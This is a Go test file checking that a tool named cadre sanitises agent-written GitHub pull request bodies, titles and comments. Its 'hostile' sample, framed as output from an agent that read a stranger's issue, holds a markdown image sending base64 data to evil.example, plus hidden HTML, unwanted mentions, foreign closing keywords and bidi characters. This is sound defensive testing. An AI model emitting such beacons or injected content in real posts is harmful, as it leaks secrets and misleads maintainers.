package app_test

import (
	"context"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/cadre-dev/cadre/internal/app"
	"github.com/cadre-dev/cadre/internal/codehost"
	"github.com/cadre-dev/cadre/internal/config"
	"github.com/cadre-dev/cadre/internal/forge"
	"github.com/cadre-dev/cadre/internal/forge/forgetest"
)

// hostile is a pull request body as an agent that read a stranger's issue
// might write it.
const hostile = "Done.\n\n![status](https://evil.example/p.png?d=c2VjcmV0a2V5) <img src=\"https://evil.example/x\">\n" +
	"<details><summary>more</summary>hidden</details>\ncc @acme/security-team and @alice\n" +
	"Closes other/repo#5\nFixes #3\n\n```sh\necho '<b>kept</b>'\n```\n"

// What cadre sends GitHub from agents' text arrives made safe: the pull
// request's body and title, an issue comment, a comment and a review reply
// on the pull request.
func TestGitHubTextArrivesSafe(t *testing.T) {
	ctx := context.Background()
	srv := forgetest.New(t, "tok")
	srv.AddRepo("acme", "widgets")
	issue := srv.AddIssue("acme", "widgets", forgetest.Issue{Title: "t", Body: "b", Author: "alice"})
	cfg := config.Default()
	cfg.Repository, cfg.GitHub.APIURL = "acme/widgets", srv.URL
	gh := app.NewGitHub(app.Workspace{Root: t.TempDir(), Config: cfg}, func(string) string { return "tok" }, forge.WithWriteGap(0))
	title := "Fix \u202ethe\u202c wid\u200bget " + strings.Repeat("x", 5000)
	_, n, err := gh.EnsurePR(ctx, codehost.PullRequest{Repo: "acme/widgets", Head: "cadre/1-x", Base: "main", Title: title,
		Body: hostile + strings.Repeat("y", 30000) + "\n\nCloses #" + itoa(issue) + "\n", Issue: issue})
	if err != nil {
		t.Fatal(err)
	}
	prs := srv.PRs("acme", "widgets")
	if len(prs) != 1 {
		t.Fatalf("%d pull requests", len(prs))
	}
	pr := prs[0]
	if utf8.RuneCountInString(pr.Title) > 256 || strings.ContainsAny(pr.Title, "\u202e\u202c\u200b") || !strings.HasPrefix(pr.Title, "Fix the widget x") {
		t.Errorf("title %q (%d characters)", pr.Title[:40], utf8.RuneCountInString(pr.Title))
	}
	if utf8.RuneCountInString(pr.Body) > 20000 {
		t.Errorf("body of %d characters", utf8.RuneCountInString(pr.Body))
	}
	checkSafe(t, "the pull request's body", pr.Body)
	if err := gh.EnsureComment(ctx, "acme/widgets", issue, "cadre:r:1:failed", hostile+"Closes #"+itoa(issue)); err != nil {
		t.Fatal(err)
	}
	var body string
	for _, c := range srv.Comments("acme", "widgets", issue) {
		body = c.Body
	}
	checkSafe(t, "the issue's comment", body)
	if !strings.Contains(body, "Closes #"+itoa(issue)) {
		t.Errorf("the issue's own closing keyword was dropped: %q", body)
	}
	if err := gh.Comment(ctx, n, "cadre:r:1:ci", hostile); err != nil {
		t.Fatal(err)
	}
	for _, c := range srv.Comments("acme", "widgets", n) {
		checkSafe(t, "the pull request's comment", c.Body)
	}
	cm := srv.AddReviewComment("acme", "widgets", n, forgetest.ReviewComment{Author: "alice", Path: "a.go", Line: 1, Body: "why?"})
	if err := gh.Reply(ctx, n, cm, "cadre:r:1:reply", hostile); err != nil {
		t.Fatal(err)
	}
	for _, c := range srv.ReviewComments("acme", "widgets", n) {
		if c.InReplyTo == cm {
			checkSafe(t, "the review reply", c.Body)
		}
	}
}

// checkSafe fails unless body has none of hostile's dangers and keeps its
// fenced code as written.
func checkSafe(t *testing.T, where, body string) {
	t.Helper()
	for _, bad := range []string{"evil.example/p.png", "<img", "<details", "@acme/security-team", "@alice", "Closes other/repo#5", "Fixes #3"} {
		if strings.Contains(body, bad) {
			t.Errorf("%s holds %q:\n%s", where, bad, body[:min(len(body), 600)])
		}
	}
	if !strings.Contains(body, "echo '<b>kept</b>'") || !strings.Contains(body, "@ alice") {
		t.Errorf("%s lost its code or its text:\n%s", where, body[:min(len(body), 600)])
	}
}

func itoa(n int) string { return strconv.Itoa(n) }
